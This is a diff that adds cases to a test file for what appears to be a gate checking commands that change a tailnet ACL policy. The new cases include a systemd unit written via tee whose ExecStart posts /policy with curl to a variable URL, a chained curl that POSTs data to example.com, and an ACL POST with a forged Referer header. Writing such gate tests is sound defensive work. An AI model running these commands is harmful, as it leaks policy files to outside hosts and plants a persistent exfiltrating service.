@@ -26,6 +26,18 @@ export const cases: GateCases = {
       title: "another type of resource",
       resources: [{ type: "x:y:Z", props: { overwriteExistingContent: true } }],
     },
+    {
+      title: "a request in a unit, to where a variable says",
+      resources: [
+        {
+          type: "command:remote:Command",
+          props: {
+            create: "tee /etc/systemd/system/x.service",
+            stdin: "[Service]\nExecStart=/usr/bin/curl -d @/policy $URL\n",
+          },
+        },
+      ],
+    },
     ...[0, "f", {}, "xtrue", "truex"].map((value) => ({
       title: `the choice ${JSON.stringify(value)}`,
       resources: acl({ overwriteExistingContent: value }),
@@ -34,6 +46,7 @@ export const cases: GateCases = {
       'curl -X POST -d @x "$API/tailnet/-/keys"',
       'curl -X POST -d @x "$API/tailnet/-/acl/validate"',
       'curl -X POST -d @x "$API/tailnet/-/aclx"',
+      'curl "$API/tailnet/-/acl"; curl -X POST -d @x http://example.com/x -H "X: $Y"',
       'curl "$API/tailnet/-/acl"; curl -X POST -d @x https://example.com/x -H "X: $Y"',
       'curl -X POST -d @x -H "If-Match: $etag" "$API/tailnet/-/acl"',
       `curl -u "$KEY:" ${URL}`,
@@ -102,6 +115,7 @@ export const cases: GateCases = {
       `curl -X POST -d @policy ${URL}/`,
       `curl -X POST -d @policy ${URL}/?details=1`,
       'curl -X POST -d @policy "$API/tailnet/-/acl"',
+      'curl -X POST -d @policy -H "Referer: https://x" "$API/tailnet/-/acl"',
       "curl -X POST -d @policy $API/tailnet/example.com/acl/",
       `curl -X POST -u "$KEY:" --data-binary @policy ${URL}`,
       `curl -sXPOST ${URL}`,
